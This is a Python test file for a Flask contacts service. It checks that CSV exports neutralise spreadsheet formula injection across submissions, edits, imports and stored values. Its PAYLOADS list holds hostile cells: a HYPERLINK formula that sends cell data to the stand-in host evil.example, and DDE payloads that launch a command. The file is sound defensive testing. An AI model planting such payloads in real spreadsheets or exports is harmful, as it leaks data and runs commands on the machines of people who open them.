"""CSV formula injection: no exported cell can start a spreadsheet formula.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with ``'`` (the
contract), in every column, whichever way the value came in: a storefront submission, a merchant's edit, an
import, or a value already in the database (a platform, an older version). Leading spaces do not hide a
formula from a spreadsheet, so a cell whose first non-space character starts one must be neutralised too.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient

from app.contacts.rules import Collected
from app.contacts.service import ContactService
from app.db import Database
from app.enums import Source
from app.models import Contact
from tests.security.conftest import Tenant

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet could read ``cell`` as a formula (spaces before it hide nothing)."""
    return cell.lstrip(" ").startswith(FORMULA_STARTS) and not cell.startswith("'")


def export(client: FlaskClient, tenant: Tenant) -> list[dict[str, str]]:
    answer = client.get("/api/v1/contacts/export.csv", headers=tenant.key_auth)
    assert answer.status_code == 200
    return list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))


def assert_safe(rows: list[dict[str, str]]) -> None:
    found = [(column, cell) for row in rows for column, cell in row.items() if dangerous(cell or "")]
    assert found == []


def test_values_from_every_way_in_are_neutralised(
    client: FlaskClient, service: ContactService, mallory: Tenant, worker: Any
) -> None:
    # A submission: names, an email whose local part starts a formula (a valid address).
    submitted = client.post(
        "/storefront/submissions",
        json={
            "shop": mallory.shop.domain,
            "email": "=cmd@example.com",
            "first_name": PAYLOADS[0],
            "last_name": PAYLOADS[1],
            "phone": "+14155550123",
        },
        headers={"Origin": f"https://{mallory.shop.domain}"},
    )
    assert submitted.status_code == 200, submitted.get_json()
    # The merchant's edit: tags and names.
    contact = service.sync(mallory.shop.id, Collected(email="-x@example.com"), source=Source.IMPORT)
    edited = client.patch(
        f"/api/v1/contacts/{contact.contact_id}",
        json={"first_name": PAYLOADS[3], "last_name": "@x", "tags": ["=1+1", "+2", "-3", "@4"]},
        headers=mallory.key_auth,
    )
    assert edited.status_code == 200, edited.get_json()
    # An import: the importer reads cells as text, so formulas arrive as they are in the file.
    upload = "email,first_name,last_name,tags\r\n+y@example.com,=1+2,-3,@tag\r\n"
    imported = client.post(
        "/api/v1/imports",
        data={"file": (io.BytesIO(upload.encode()), "list.csv")},
        headers=mallory.key_auth,
    )
    assert imported.status_code == 202, imported.get_json()
    worker.run(until_idle=True)

    rows = export(client, mallory)
    assert {row["email"] for row in rows} >= {"'=cmd@example.com", "'-x@example.com", "'+y@example.com"}
    assert_safe(rows)
    [edited_row] = [row for row in rows if row["email"] == "'-x@example.com"]
    assert edited_row["tags"].startswith("'=1+1")
    assert edited_row["first_name"] == "'" + PAYLOADS[3]


def _store_raw(db: Database, contact_id: int, **values: object) -> None:
    with db.write_transaction() as session:
        session.execute(sa.update(Contact).where(Contact.id == contact_id).values(**values))


def test_every_column_already_in_the_database_is_neutralised(
    client: FlaskClient, db: Database, service: ContactService, mallory: Tenant
) -> None:
    for index, payload in enumerate(PAYLOADS):
        contact = service.sync(
            mallory.shop.id, Collected(email=f"p{index}@example.com"), source=Source.IMPORT
        )
        _store_raw(
            db,
            contact.contact_id or 0,
            email=payload[:300],
            phone=payload[:20],
            first_name=payload,
            last_name=payload,
            gender=payload[:16],
            country=payload[:2],
            email_consent=payload[:16],
            sms_consent=payload[:16],
            tags=[payload, "plain"],
        )
    rows = export(client, mallory)
    assert len(rows) == len(PAYLOADS)
    assert_safe(rows)
    for row in rows:
        for column in ("email", "first_name", "last_name", "tags"):
            assert row[column].startswith("'"), (column, row[column])


def test_a_formula_behind_leading_spaces_is_neutralised(
    client: FlaskClient, db: Database, service: ContactService, mallory: Tenant
) -> None:
    contact = service.sync(mallory.shop.id, Collected(email="spaces@example.com"), source=Source.IMPORT)
    _store_raw(db, contact.contact_id or 0, first_name=" =1+1", last_name="   @SUM(A1)", tags=["  -2+3"])
    assert_safe(export(client, mallory))


def test_the_tracking_links_csv_is_neutralised(client: FlaskClient, mallory: Tenant) -> None:
    upload = (
        "channel,email,message_id,url,first_name\r\nemail,=x@example.com,=1+1,https://shop.example/,@name\r\n"
    )
    answer = client.post(
        "/api/v1/tracking-links.csv",
        data={"file": (io.BytesIO(upload.encode()), "links.csv")},
        headers=mallory.key_auth,
    )
    if answer.status_code != 201:
        pytest.fail(f"the tracking-links CSV was refused: {answer.get_json()}")
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))
    assert len(rows) >= 2
    assert [cell for row in rows for cell in row if dangerous(cell)] == []
